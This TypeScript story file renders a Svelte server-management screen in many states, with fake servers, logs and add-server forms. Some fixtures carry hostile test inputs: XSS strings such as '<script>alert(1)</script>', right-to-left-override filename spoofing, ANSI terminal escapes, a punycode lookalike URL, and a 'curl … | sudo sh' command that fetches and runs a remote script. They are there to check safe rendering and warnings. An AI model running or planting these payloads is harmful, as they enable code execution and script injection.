/* The servers screen in every state. */
import type { ApiError, ServerLogLine, TaskRow, ToolChangesDto } from "$lib/bindings";
import { makeServer, TOOLS } from "$lib/fake-core/entities";
import { makeRow } from "$lib/fake-core/rows";
import { story, STORY_NOW, type StoryFile } from "$lib/fake-core/story";
import { aPause } from "$lib/pause/pause.example";
import AddServer from "./add/AddServer.svelte";
import { EMPTY, type Draft } from "./add/server-draft";
import Servers from "./Servers.svelte";
import { aServer } from "./servers.example";

const refused: ApiError = {
  code: "refused",
  message: "there is a server `billing` already",
  hint: "Choose another name.",
};
const down = aServer("warehouse-2", {
  health: {
    kind: "down",
    since: "2026-11-21T14:20:00.000Z",
    why: "the program ended with code 1",
    hint: "Look at its last words below; it is started again by itself.",
    retryAt: "2026-11-21T14:32:18.000Z",
  },
  stderrTail: "Error: cannot find module 'left-pad'\n    at Module._resolve (node:internal)\n",
  openTasks: 1,
});
const CHANGES: ToolChangesDto = {
  digest: "00ff",
  seenAt: "2026-11-12T09:20:00.000Z",
  seenBy: "mara",
  tools: [
    { name: "drop_index", change: "added" },
    { name: "index_folder", change: "changed" },
    { name: "list_papers", change: "removed" },
  ],
  leftOut: 0,
};
const designed = [
  aServer("ci-server", {
    address: { kind: "http", url: "https://ci.northwind.example/mcp", secretHeaders: ["Authorization"] },
    toolCount: 14,
    openTasks: 5,
    cancels: { asked: 9, stopped: 9, finishedAnyway: 0, refused: 0, noReply: 0, medianMs: 2_100 },
  }),
  aServer("warehouse", {
    address: { kind: "http", url: "https://wh.northwind.example/mcp", secretHeaders: [] },
    dialect: "2025-11-25",
    era: "legacy",
    pushes: false,
    toolCount: 22,
    openTasks: 4,
    cancels: { asked: 9, stopped: 3, finishedAnyway: 4, refused: 2, noReply: 0, medianMs: 40_000 },
  }),
  aServer("docs", {
    openTasks: 3,
    cancels: { asked: 7, stopped: 7, finishedAnyway: 0, refused: 0, noReply: 0, medianMs: 400 },
  }),
  aServer("github", {
    address: { kind: "http", url: "https://api.github.example/mcp", secretHeaders: ["Authorization"] },
    dialect: "none",
    pushes: false,
    toolCount: 31,
    openTasks: 4,
  }),
  aServer("memorygraph", {
    dialect: "2025-11-25",
    era: "legacy",
    toolCount: 9,
    openTasks: 2,
    health: {
      kind: "blocked",
      since: "2026-11-21T14:17:00.000Z",
      why: "the server asks for sign-in",
      hint: "Add the server again with a valid token.",
      retryAt: null,
    },
    cancels: { asked: 2, stopped: 1, finishedAnyway: 1, refused: 0, noReply: 0, medianMs: 6_000 },
  }),
];
const frozen = designed.map((server) =>
  server.name === "docs"
    ? {
        ...server,
        frozen: aPause({
          server: "docs",
          waiting: 2,
          mustChoose: true,
          processes: { stopped: 4, moving: 1, foreign: 1 },
        }),
      }
    : server,
);
const atFrozen = [0, 1].map((at): TaskRow => ({
  ...makeRow(at, "waiting", STORY_NOW),
  server: "docs",
  group: "moving",
  openRequests: 0,
  paused: { kind: "serverFrozen", since: "2026-11-21T14:12:00.000Z" },
}));
const long = "x".repeat(100_000);
const hostile = aServer("hostile", {
  address: {
    kind: "stdio",
    command: "<img src=x onerror=alert(1)>",
    args: ["\u202Etxt.exe", "\u001b[31mred\u001b[0m", long.slice(0, 4_000), "--token", "sk-live-123"],
    env: { API_KEY: "hush" },
    secretEnv: ["TOKEN"],
    cwd: "/srv/<b>x</b>",
  },
  serverName: `<b>${long}</b>`,
  serverVersion: "\u202E1.0",
  health: {
    kind: "down",
    since: "2026-11-21T14:17:00.000Z",
    why: `<script>alert(1)</script> ${long}`,
    hint: `Look ${long.slice(0, 2_000)}`,
    retryAt: null,
  },
  stderrTail: `\u001b[2J${long}\n<script>\n`.repeat(2),
});
const many = (count: number) => Array.from({ length: count }, (_, at) => makeServer(`server-${at + 1}`, at, STORY_NOW));
const draft: Draft = {
  ...EMPTY,
  name: "billing",
  command: "npx -y @northwind/billing-mcp@2.4.1 --read-only",
  env: [{ id: 1, name: "BILLING_KEY", value: "hush", secret: true }],
};
const form = (change: Partial<Draft>) =>
  story(
    AddServer,
    {
      draft: { ...draft, ...change },
      taken: ["docs"],
      onclose: () => undefined,
      onopen: () => undefined,
      onimport: () => undefined,
    },
    {},
  );
const submit = ["button[type=submit]"];
const REMOVE = ["aside header button[aria-haspopup=menu]", "[role=menuitem] >> nth=1"];
const hostileLog = {
  first: 97,
  next: 112,
  keptBytes: 262_144,
  lines: [
    "\u001b[31mred\u001b[0m and \u001b]8;;https://x.example\u0007a link\u001b]8;;\u0007",
    "14:29:44 · The process was ended by Taskwarden",
    "<img src=x onerror=alert(1)> <b>bold</b>",
    "\u202Etxt.exe reversed",
    "مرحبا بالعالم: 42 سطرا",
    "x".repeat(2_000),
    "",
    "👩\u200d👩\u200d👧 wide ｆｕｌｌ",
  ]
    .map((said, at): ServerLogLine => ({
      number: 97 + at,
      at: at === 0 ? null : "2026-11-21T14:29:44.000Z",
      agent: at === 3 ? "claude-code" : null,
      event: { kind: "line", text: said },
    }))
    .concat([
      {
        number: 105,
        at: "2026-11-21T14:29:44.000Z",
        agent: null,
        event: { kind: "message", level: "emergency", logger: "error: Taskwarden", text: "\u001b[31m<b>red</b>\u202E" },
      },
      {
        number: 106,
        at: "2026-11-21T14:29:44.000Z",
        agent: "claude-code",
        event: { kind: "message", level: null, logger: "l".repeat(80), text: "x".repeat(2_000) },
      },
      { number: 108, at: "2026-11-21T14:29:45.000Z", agent: null, event: { kind: "skipped", count: 12_000 } },
      {
        number: 109,
        at: "2026-11-21T14:29:46.000Z",
        agent: "claude-code",
        event: { kind: "ended", code: 1, signal: null, byUs: false },
      },
      { number: 110, at: "2026-11-21T14:29:47.000Z", agent: null, event: { kind: "started", pid: 7 } },
      { number: 111, at: "2026-11-21T14:29:48.000Z", agent: null, event: { kind: "asked", by: "mara", act: "end" } },
    ]),
};
const nothing = { count: 0, failed: 0, medianMs: null, p95Ms: null };
const noSpan = { from: "2026-11-21T08:50:00.000Z", calls: nothing, polls: nothing };
const noTimes = {
  since: "2026-11-21T08:50:00.000Z",
  hour: noSpan,
  day: noSpan,
  steps: Array.from({ length: 36 }, () => noSpan),
  lastFailure: null,
};

export default {
  title: "servers",
  stories: {
    designed: story(Servers, {}, { fake: { servers: designed }, hash: "#/servers/%2Badd" }),
    none: story(Servers, {}, { fake: { servers: 0, tasks: 0 }, hash: "#/servers" }),
    "none, form closed": story(Servers, {}, { fake: { servers: 0, tasks: 0 }, hash: "#/servers", keys: ["Escape"] }),
    one: story(Servers, {}, { fake: { servers: [aServer("docs")] }, hash: "#/servers" }),
    thirty: story(Servers, {}, { fake: { servers: many(30) }, hash: "#/servers" }),
    "ten thousand": () => story(Servers, {}, { fake: { servers: many(10_000) }, hash: "#/servers" }),
    "no match": story(Servers, {}, { fake: { servers: many(30) }, hash: "#/servers", keys: ["/", "q", "q"] }),
    loading: story(Servers, {}, { fake: { connection: "connecting" }, hash: "#/servers" }),
    error: story(Servers, {}, { fake: { connection: "lost" }, hash: "#/servers" }),
    stale: story(Servers, {}, { fake: { connection: "stale", servers: designed }, hash: "#/servers/docs" }),
    opened: story(Servers, {}, { fake: { servers: designed }, hash: "#/servers/ci-server" }),
    "opened, schema of a tool": story(
      Servers,
      {},
      {
        fake: { servers: designed },
        hash: "#/servers/docs",
        click: ["[role=tab] >> nth=1", "button.name >> nth=0"],
      },
    ),
    "opened, down": story(Servers, {}, { fake: { servers: [down, ...designed] }, hash: `#/servers/${down.name}` }),
    frozen: story(Servers, {}, { fake: { servers: frozen }, hash: "#/servers/docs" }),
    "frozen, in the list": story(Servers, {}, { fake: { servers: frozen }, hash: "#/servers" }),
    "frozen, health": story(
      Servers,
      {},
      { fake: { servers: frozen }, hash: "#/servers/docs", click: ["[role=tab] >> nth=2"] },
    ),
    thawing: story(
      Servers,
      {},
      {
        fake: { servers: frozen, tasks: atFrozen },
        hash: "#/servers/docs",
        click: ["aside footer button:has-text('Thaw')"],
      },
    ),
    freezing: story(
      Servers,
      {},
      { fake: { servers: designed }, hash: "#/servers/docs", click: ["aside footer button:has-text('Freeze')"] },
    ),
    "opened, log": story(Servers, {}, { fake: { servers: designed }, hash: "#/servers/docs" }),
    "opened, log, found": story(
      Servers,
      {},
      { fake: { servers: designed }, hash: "#/servers/docs", click: ["input[type=search]"], keys: [..."timeout"] },
    ),
    "opened, log, nothing yet": story(
      Servers,
      {},
      {
        fake: {
          servers: designed,
          calls: { "servers.log": () => ({ lines: [], first: 1, next: 1, keptBytes: 262_144 }) },
        },
        hash: "#/servers/docs",
      },
    ),
    "opened, log, hostile": story(
      Servers,
      {},
      { fake: { servers: designed, calls: { "servers.log": () => hostileLog } }, hash: "#/servers/docs" },
    ),
    "opened, log fails": story(
      Servers,
      {},
      {
        fake: {
          servers: designed,
          calls: {
            "servers.log": () => {
              throw refused;
            },
          },
        },
        hash: "#/servers/docs",
      },
    ),
    "opened, health": story(
      Servers,
      {},
      { fake: { servers: designed }, hash: "#/servers/docs", click: ["[role=tab] >> nth=2"] },
    ),
    "opened, health, nothing asked": story(
      Servers,
      {},
      {
        fake: { servers: [aServer("docs")], calls: { "servers.times": () => noTimes } },
        hash: "#/servers/docs",
        click: ["[role=tab] >> nth=2"],
      },
    ),
    "opened, access": story(
      Servers,
      {},
      { fake: { servers: designed }, hash: "#/servers/docs", click: ["[role=tab] >> nth=3"] },
    ),
    "opened, end": story(
      Servers,
      {},
      {
        fake: { servers: [aServer("ci-server", { openTasks: 5 })], tasks: 28 },
        hash: "#/servers/ci-server",
        click: ["aside footer button >> text=End process…"],
      },
    ),
    "opened, restart, nothing open": story(
      Servers,
      {},
      { fake: { servers: [aServer("docs")] }, hash: "#/servers/docs", click: ["aside footer button >> nth=0"] },
    ),
    "opened, reconnect": story(
      Servers,
      {},
      { fake: { servers: designed }, hash: "#/servers/ci-server", click: ["aside footer button >> nth=0"] },
    ),
    "opened, change": story(
      Servers,
      {},
      {
        fake: {
          servers: [
            aServer("docs", {
              openTasks: 2,
              address: {
                kind: "stdio",
                command: "/usr/bin/npx",
                args: ["-y", "@northwind/docs-mcp@1.8.1"],
                env: { LANG: "C" },
                secretEnv: ["DOCS_TOKEN"],
                cwd: null,
              },
            }),
          ],
        },
        hash: "#/servers/docs",
        click: ["[role=tab] >> nth=3", "[role=tabpanel] .buttons button", "form#change-server input >> nth=0"],
        keys: ["End", " ", "-", "v"],
      },
    ),
    "opened, sign-in": story(Servers, {}, { fake: { servers: designed }, hash: "#/servers/memorygraph" }),
    "opened, not allowed": story(
      Servers,
      {},
      {
        fake: {
          servers: [
            aServer("new", {
              agreed: false,
              agreedBy: null,
              agreedAt: null,
              health: { kind: "unknown", since: null, why: null, hint: null, retryAt: null },
            }),
          ],
        },
        hash: "#/servers/new",
      },
    ),
    "opened, tools fail": story(
      Servers,
      {},
      {
        fake: {
          servers: designed,
          calls: {
            "servers.tools": () => {
              throw refused;
            },
          },
        },
        hash: "#/servers/docs",
        click: ["[role=tab] >> nth=1"],
      },
    ),
    "opened, no tools": story(
      Servers,
      {},
      {
        fake: {
          servers: designed,
          calls: { "servers.tools": () => ({ tools: [], callsSince: new Date(STORY_NOW - 20_000_000).toISOString() }) },
        },
        hash: "#/servers/docs",
        click: ["[role=tab] >> nth=1"],
      },
    ),
    "opened, tools changed": story(
      Servers,
      {},
      {
        fake: {
          servers: designed.map((one) => (one.name === "docs" ? { ...one, changedTools: 3 } : one)),
          calls: {
            "servers.tools": () => ({
              tools: [...TOOLS],
              callsSince: new Date(STORY_NOW - 20_000_000).toISOString(),
              changes: CHANGES,
            }),
          },
        },
        hash: "#/servers/docs",
        click: ["[role=tab] >> nth=1", "text=index_folder >> nth=0"],
      },
    ),
    hostile: story(Servers, {}, { fake: { servers: [hostile, ...designed] }, hash: "#/servers/hostile" }),
    remove: story(
      Servers,
      {},
      {
        fake: { servers: [aServer("ci-server", { openTasks: 5 })], tasks: 28 },
        hash: "#/servers/ci-server",
        click: REMOVE,
      },
    ),
    "remove, nothing open": story(
      Servers,
      {},
      { fake: { servers: [aServer("docs")] }, hash: "#/servers/docs", click: REMOVE },
    ),
    "add, filled": form({}),
    "add, warnings": form({
      command: "curl https://x.example/i.sh | sudo sh --token abc $HOME",
      env: [{ id: 1, name: "API_KEY", value: "q7Gz0pXw93", secret: false }],
    }),
    "add, an assignment": form({ command: "TOKEN=abc npx some-server" }),
    "add, nothing typed": { ...form({ ...EMPTY }), click: submit },
    "add, an address": form({
      kind: "http",
      url: "http://xn--pple-43d.com/mcp?api_key=x",
      headers: [{ id: 1, name: "Authorization", value: "Bearer hush", secret: true }],
    }),
    "add, bad rows": {
      ...form({
        command: "node 'x",
        env: [
          { id: 1, name: "A B", value: "1", secret: false },
          { id: 2, name: "KEY", value: "", secret: true },
        ],
      }),
      click: submit,
    },
    added: { ...form({}), click: submit },
    "added, not reachable": {
      ...form({}),
      fake: { calls: { "servers.add": () => ({ server: { ...down, name: "billing" }, tools: null }) } },
      click: submit,
    },
    "add, refused": {
      ...form({}),
      fake: {
        calls: {
          "servers.add": () => {
            throw refused;
          },
        },
      },
      click: submit,
    },
  },
} satisfies StoryFile;
